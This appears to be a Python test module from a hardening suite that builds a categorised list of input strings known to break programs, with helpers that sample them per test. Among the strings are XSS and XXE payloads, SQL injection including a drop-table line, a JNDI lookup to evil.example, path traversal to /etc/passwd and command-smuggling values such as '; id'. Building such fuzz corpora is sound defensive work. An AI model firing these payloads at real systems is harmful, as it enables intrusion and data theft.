"""Strings that break programs, by what they break; made here, in the spirit of the lists that others keep."""

from collections.abc import Iterator, Sequence

from tests.hardening.counts import FULL

SHARE = 10
"""The suite tries every tenth of the strings that a full run tries at a place."""

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2064\u3164\ufe0f\ufeff\ufff9\U000e0001\U000e0100"
_MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'\"><svg onload=alert(1)>", "<b>", "</p>",
    "<!--", "-->", "]]>", "<![CDATA[", "&lt;&amp;&#0;&#x110000;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "[x](javascript:alert(1))",
    "![](//evil.example)",
    "</textarea></title></style></script>", "\u00bcscript\u00be", "<a href=//evil.example>here</a>",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}", "{% for x in y %}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%n%x", "{0}", "{}", "{name!r}",
    "{0.__class__.__mro__}", "$HOME", "`id`", "$(id)", "%PATH%", "${jndi:ldap://evil.example/x}", "\\u0041",
    "\\x41\\0", "%00%0a%2e%2e", "%ZZ", "%", "%25", "&#65;", "@@version", "!!python/object:os.system [id]",
]  # fmt: skip
_QUERIES = [
    "' or '1'='1", "\" or \"\"=\"", "'; drop table customers; --", "') union select * from accounts --",
    "\\' or 1=1 --", "1; select pg_sleep(9)", "%' or name like '%", "%", "_", "__", "*", "?", "[a-z]*",
    ".*", "(a+)+$",
    "(" * 200, "[" * 200, "\\", "\\\\", "'", "\"", "`", "''''", "NULL", "1/0", "properties[\"$email\"]",
    "AND OR NOT NEAR(",
    "title:x AND *", "-\"x\"^9", "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}", "[object Object]",
]  # fmt: skip
_FILES = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "~root",
    "~nobody-at-all/x",
    "/dev/null", "/dev/zero", "C:\\", "CON", "NUL", "aux.txt", "\\\\host\\share", "a/b", ".", "..", "...",
    "-", "--", "--help",
    "-rf", "@/etc/passwd", "| cat", "; id", "&& id", "> x", "a\nb", "README.md",
]  # fmt: skip
_NUMBERS = [
    "0", "-0", "-1", "1.", ".5", "1e309", "-1e309", "1e-400", "NaN", "nan", "Infinity", "-inf", "0x10",
    "0b1", "0o7", "1_000",
    "1,000.50", "1.000,50", "٣", "１２３", "²", "½", "Ⅳ", "一", "9223372036854775808", "-9223372036854775809",
    "9" * 400,
    "2147483648", "00", "+1", "1 000", "1e1000000000",
]  # fmt: skip
_DAYS = [
    "2026-02-30", "2026-13-01", "2026-00-00", "0000-01-01", "0001-01-01", "0001-01-02", "9999-12-31",
    "10000-01-01", "-0001-01-01",
    "2026-1-1", "20261101", "2026-W01-1", "2026W011", "2026-366", "2026-11-01T00:00:00", "2026-11-01Z",
    "01.11.2026", "11/01/2026",
    "today", "yesterday", "now", "last_7_days", "２０２６-11-01", "2026-11-01 ", "1970-01-01", "1582-10-10",
    "0", "1700000000",
]  # fmt: skip
_WORDS = [
    "undefined", "undef", "null", "(null)", "nil", "NIL", "none", "None", "NULL", "hasOwnProperty",
    "__proto__", "constructor",
    "__class__", "__init__", "self", "ctx", "then", "true", "True", "false", "yes", "no", "on", "off",
    "$other", "(not set)",
]  # fmt: skip
_LETTERS = [
    "e\u0301", "\u00e9", "\ufb03", "\u0130", "\u0131", "ß", "ẞ", "ǆ", "Ω", "\u1e9b\u0323", "\u0344",
    "Z\u0351\u036b\u0343a\u0331\u0320",
    "a" + "\u0300" * 300, "李明", "ﷺ", "﷽﷽﷽", "العربية", "עברית", "हिन्दी", "ไทย", "한글",
    "\u1112\u1161\u11ab", "𝕳𝖊𝖑𝖑𝖔",
    "Ａｃｍｅ", "Αcme", "Асme", "🙂", "👩‍👩‍👧‍👦", "🇺🇸", "👍🏿", "1️⃣", "ᚠ", "\U0001f9ff" * 40, "O'Brien",
    "D’Angelo", "Ünïcödé", "ˇ", "\u02bc",
]  # fmt: skip
_ADDRESSES = [
    "ana@acme.example", '"a b"@acme.example', "a@b@c", "@", "a@", "http://", "http://[", "http://[::1",
    "https://x:99999/",
    "http://x\\@y", "//evil.example", "mailto:a@b", "a@acme.example\r\nBcc: b@evil.example",
    "+49 170 1234567", "=?utf-8?q?x?=",
]  # fmt: skip
_BROKEN_OFF = [
    "{",
    '{"a":',
    "[1,",
    '"',
    "---",
    "- a\n- b",
    "a: b: c",
    'a,b\n"c',
    "=1+1",
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
]

CATEGORIES: dict[str, Sequence[str]] = {
    "spaces": [
        " ",
        "  ",
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\v\f",
        "\u0085",
        "\u00a0",
        "\u1680",
        "\u2003",
        "\u2028",
        "\u2029",
        "\u3000",
    ],
    "control characters": [chr(number) for number in (0, 1, 7, 8, 27, 31, 127, 128, 155)]
    + ["a\0b", "\x1b[2J\x1b]0;x\a"],
    "characters that are not seen": [
        *(f"Ac{char}me" for char in _BIDI + _UNSEEN),
        _BIDI,
        _UNSEEN,
        "\ufeffAcme",
    ],
    "no characters": [
        "\ud800",
        "a\udfffb",
        "\udcff",
        "\ud83d",
        "\ude42\ud83d",
        "\ufffe",
        "\uffff",
        "\ufffd",
        "\U0010ffff",
        "\ue000",
    ],
    "letters": _LETTERS,
    "words": _WORDS,
    "numbers": _NUMBERS,
    "days": _DAYS,
    "markup": _MARKUP,
    "templates": _TEMPLATES,
    "queries": _QUERIES,
    "files": _FILES,
    "addresses": _ADDRESSES,
    "broken off": _BROKEN_OFF,
    "long": [
        "x" * 200,
        "x" * 201,
        "é" * 1000,
        "🙂" * 2000,
        "x" * 20_000,
        "a " * 5000,
        "\u202e" * 3000,
        "'" * 4000,
        "[" * 9000,
    ],
}

NAUGHTY = tuple(dict.fromkeys(each for kind in CATEGORIES.values() for each in kind))


def some(place: int, strings: Sequence[str] = NAUGHTY, *, one_in: int = 1) -> list[str]:
    """The strings to try at a place, others at each next one: one in so many in a full run, else a tenth."""
    share = one_in if FULL else one_in * SHARE
    return list(strings[place % share :: share])


def typed(strings: Sequence[str]) -> Iterator[str]:
    """Those that a keyboard, a URL or a form can hold: a lone surrogate is no character."""
    return (each for each in strings if not any("\ud800" <= char <= "\udfff" for char in each))
